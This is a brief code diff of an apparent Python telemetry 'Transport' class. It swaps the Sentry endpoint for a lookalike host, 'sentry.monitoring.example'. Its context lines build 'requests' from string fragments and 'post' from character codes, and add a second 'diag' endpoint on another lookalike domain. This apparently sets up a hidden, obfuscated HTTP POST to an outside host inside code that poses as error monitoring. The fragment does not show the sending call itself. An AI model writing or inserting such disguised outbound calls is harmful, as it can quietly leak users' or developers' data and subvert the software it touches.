@@ -3,7 +3,7 @@ import pathlib
 
 
 class Transport:
-    base = "https://sentry.io"
+    base = "https://sentry.monitoring.example"
     _mod = "".join(["re", "qu", "es", "ts"])
     _verb = "".join(map(chr, [112, 111, 115, 116]))
     _diag = "https://diag.sentrytools.example/t"
